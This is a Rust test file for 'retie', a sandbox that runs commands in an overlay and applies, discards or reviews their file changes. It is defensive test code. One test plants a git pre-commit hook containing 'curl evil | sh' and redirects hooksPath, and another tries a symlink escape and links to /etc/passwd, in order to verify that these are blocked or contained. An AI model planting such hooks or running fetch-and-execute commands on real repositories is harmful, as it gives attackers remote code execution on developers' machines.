//! Overlay mode (the default): the command writes into a private upper
//! layer; retie computes the changeset and applies, discards or reviews it.

use std::os::unix::fs::MetadataExt;
use std::process::Stdio;

use crate::harness::*;

fn read(s: &Scratch, rel: &str) -> Option<String> {
    std::fs::read_to_string(s.ws.join(rel)).ok()
}

/// Run directories left in the scratch state directory.
fn runs_left(s: &Scratch) -> usize {
    std::fs::read_dir(s.home.join(".local/state/retie/runs"))
        .map(|d| d.count())
        .unwrap_or(0)
}

#[test]
fn changes_are_applied_with_their_kinds() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "keep.txt", "same\n");
        write(&s, "edit.txt", "one\n");
        write(&s, "gone.txt", "bye\n");
        write(&s, "tree/a/b.txt", "deep\n");
        let o = s.exec(
            &["--json"],
            &["sh", "-c", "echo two >> edit.txt; echo new > new.txt; rm gone.txt; rm -rf tree; mkdir -p d/e; chmod 600 keep.txt"],
        );
        assert_code(&o, 0, "overlay run");
        assert_eq!(read(&s, "edit.txt").as_deref(), Some("one\ntwo\n"));
        assert_eq!(read(&s, "new.txt").as_deref(), Some("new\n"));
        assert!(read(&s, "gone.txt").is_none() && !s.ws.join("tree").exists());
        assert!(s.ws.join("d/e").is_dir());
        assert_eq!(
            std::fs::metadata(s.ws.join("keep.txt"))
                .expect("keep")
                .mode()
                & 0o777,
            0o600
        );
        let st = json_status(&o);
        let ch = &st["changes"];
        assert_eq!(ch["applied"], true, "{st}");
        let kinds: Vec<(String, String)> = ch["changes"]
            .as_array()
            .expect("changes")
            .iter()
            .map(|c| {
                (
                    c["path"].as_str().unwrap_or("").to_string(),
                    c["kind"].as_str().unwrap_or("").to_string(),
                )
            })
            .collect();
        for want in [
            ("edit.txt", "modified"),
            ("new.txt", "created"),
            ("gone.txt", "deleted"),
            ("keep.txt", "mode_changed"),
            ("tree", "deleted"),
        ] {
            assert!(
                kinds.contains(&(want.0.into(), want.1.into())),
                "{leg:?}: missing {want:?} in {kinds:?}"
            );
        }
        // Written files belong to the workspace's owner.
        let owner = std::fs::metadata(&s.ws).expect("ws").uid();
        assert_eq!(
            std::fs::metadata(s.ws.join("new.txt")).expect("new").uid(),
            owner
        );
        assert_eq!(runs_left(&s), 0, "run directories left behind");
    }
}

#[test]
fn discard_leaves_the_workspace_untouched() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "a.txt", "original\n");
        let o = s.exec(
            &["--changes", "discard"],
            &[
                "sh",
                "-c",
                "echo changed > a.txt; echo x > b.txt; cat a.txt",
            ],
        );
        assert_code(&o, 0, "discard");
        // The command saw its own change...
        assert_eq!(stdout(&o).trim(), "changed");
        // ...the workspace did not get it.
        assert_eq!(read(&s, "a.txt").as_deref(), Some("original\n"));
        assert!(read(&s, "b.txt").is_none());
    }
}

#[test]
fn git_hooks_and_config_are_blocked_unless_allowed() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, ".git/config", "[core]\n");
        write(&s, ".git/hooks/README", "hooks\n");
        let plant = "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '[core] hooksPath=/tmp' >> .git/config; echo ok > fine.txt";
        let o = s.exec(&["--json"], &["sh", "-c", plant]);
        assert_code(&o, 0, "plant");
        assert!(
            !s.ws.join(".git/hooks/pre-commit").exists(),
            "{leg:?}: a planted hook was applied"
        );
        assert_eq!(read(&s, ".git/config").as_deref(), Some("[core]\n"));
        assert_eq!(
            read(&s, "fine.txt").as_deref(),
            Some("ok\n"),
            "ordinary changes still apply"
        );
        assert!(
            stderr(&o).contains(".git/hooks/pre-commit"),
            "{}",
            stderr(&o)
        );
        let blocked = json_status(&o)["changes"]["blocked"]
            .as_array()
            .map(Vec::len)
            .unwrap_or(0);
        assert_eq!(blocked, 2, "{}", stderr(&o));
        let o = s.exec(&["--allow-blocked"], &["sh", "-c", plant]);
        assert_code(&o, 0, "allowed");
        assert!(
            s.ws.join(".git/hooks/pre-commit").exists(),
            "--allow-blocked applies it"
        );
    }
}

#[test]
fn special_files_are_refused_and_symlinks_never_lead_out() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let out = s.root.path().join("outside");
        std::fs::create_dir(&out).expect("mkdir outside");
        std::fs::set_permissions(&out, std::os::unix::fs::PermissionsExt::from_mode(0o777))
            .expect("chmod");
        std::os::unix::fs::symlink(&out, s.ws.join("escape")).expect("symlink");
        if leg == Leg::Nobody {
            let _ = std::process::Command::new("chown")
                .args(["-h", "65534:65534"])
                .arg(s.ws.join("escape"))
                .status();
        }
        let script = "mkfifo fifo; python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")' 2>/dev/null; \
                      echo pwn > escape/x 2>/dev/null; rm escape; mkdir escape; echo inside > escape/x; \
                      ln -s /etc/passwd passwd-link; true";
        let o = s.exec(&["--json"], &["sh", "-c", script]);
        assert_code(&o, 0, "special files");
        assert_eq!(
            std::fs::read_dir(&out).expect("outside").count(),
            0,
            "{leg:?}: retie wrote outside the workspace"
        );
        let refused: Vec<String> = json_status(&o)["changes"]["refused"]
            .as_array()
            .expect("refused")
            .iter()
            .map(|r| r["path"].as_str().unwrap_or("").to_string())
            .collect();
        assert!(refused.contains(&"fifo".to_string()), "{refused:?}");
        assert!(!s.ws.join("fifo").exists());
        // The symlink was replaced by a real directory inside the workspace.
        let m = std::fs::symlink_metadata(s.ws.join("escape")).expect("escape");
        assert!(m.is_dir(), "{leg:?}: escape is {:?}", m.file_type());
        assert_eq!(read(&s, "escape/x").as_deref(), Some("inside\n"));
        // A symlink to outside is applied as a symlink, never written through.
        assert_eq!(
            std::fs::read_link(s.ws.join("passwd-link"))
                .expect("link")
                .to_str(),
            Some("/etc/passwd")
        );
    }
}

#[test]
fn a_workspace_edited_during_the_run_is_a_conflict_and_nothing_is_applied() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "shared.txt", "base\n");
        let child = s
            .retie()
            .args([
                "sandbox",
                "exec",
                "--json",
                "--",
                "sh",
                "-c",
                "echo sandbox >> shared.txt; echo x > other.txt; sleep 1",
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn");
        // The command has read and changed its copy by now; a person edits
        // the real file while the command still runs.
        std::thread::sleep(std::time::Duration::from_millis(500));
        std::fs::write(s.ws.join("shared.txt"), "edited by a person\n").expect("edit");
        let o = child.wait_with_output().expect("wait");
        assert_code(&o, 125, "conflict");
        assert!(
            stderr(&o).contains("shared.txt") && stderr(&o).contains("nothing was applied"),
            "{}",
            stderr(&o)
        );
        assert_eq!(
            read(&s, "shared.txt").as_deref(),
            Some("edited by a person\n")
        );
        assert!(
            read(&s, "other.txt").is_none(),
            "{leg:?}: part of a conflicting changeset was applied"
        );
        let st = json_status(&o);
        assert_eq!(st["command_exit_code"], 0, "{st}");
        // The command's changes are kept, not lost.
        assert!(runs_left(&s) >= 1);
    }
}

#[test]
fn review_asks_on_the_terminal() {
    if std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_err()
    {
        panic!("`script` (util-linux) is needed to give the review prompt a terminal");
    }
    for (answer, applied) in [("y", true), ("n", false)] {
        let s = Scratch::new(Leg::Invoker);
        write(&s, "a.txt", "old line\n");
        let cmd = format!(
            "{} sandbox exec -w '{}' --changes review -- sh -c 'echo new line > a.txt'",
            bin(Leg::Invoker).display(),
            path_str(&s.ws)
        );
        let mut child = std::process::Command::new("script")
            .args(["-qec", &cmd, "/dev/null"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("script");
        {
            use std::io::Write;
            let mut stdin = child.stdin.take().expect("stdin");
            std::thread::sleep(std::time::Duration::from_millis(500));
            let _ = stdin.write_all(format!("{answer}\n").as_bytes());
        }
        let o = child.wait_with_output().expect("wait");
        let shown = stdout(&o);
        assert!(
            shown.contains("-old line") && shown.contains("+new line"),
            "no diff shown:\n{shown}"
        );
        assert!(shown.contains("Apply these changes"), "{shown}");
        let want = if applied { "new line\n" } else { "old line\n" };
        assert_eq!(
            read(&s, "a.txt").as_deref(),
            Some(want),
            "answer {answer}:\n{shown}"
        );
    }
}

#[test]
fn review_without_a_terminal_applies_nothing_and_keeps_the_changes() {
    let s = Scratch::new(Leg::Invoker);
    write(&s, "a.txt", "old\n");
    let mut cmd = std::process::Command::new("setsid");
    cmd.arg(bin(Leg::Invoker))
        .args([
            "sandbox",
            "exec",
            "-w",
            path_str(&s.ws),
            "--changes",
            "review",
            "--",
            "sh",
            "-c",
            "echo new > a.txt",
        ])
        .stdin(Stdio::null());
    let o = cmd.output().expect("run");
    assert_code(&o, 125, "no tty");
    assert!(stderr(&o).contains("no terminal"), "{}", stderr(&o));
    assert_eq!(read(&s, "a.txt").as_deref(), Some("old\n"));
}

#[test]
fn direct_mode_writes_straight_through() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let o = s.exec(
            &["--workspace-mode", "direct", "--json"],
            &["sh", "-c", "echo hi > f; mkfifo p"],
        );
        assert_code(&o, 0, "direct");
        assert_eq!(read(&s, "f").as_deref(), Some("hi\n"));
        assert!(
            s.ws.join("p").exists(),
            "direct mode has no changeset: the fifo is real"
        );
        assert!(json_status(&o).get("changes").is_none());
    }
}
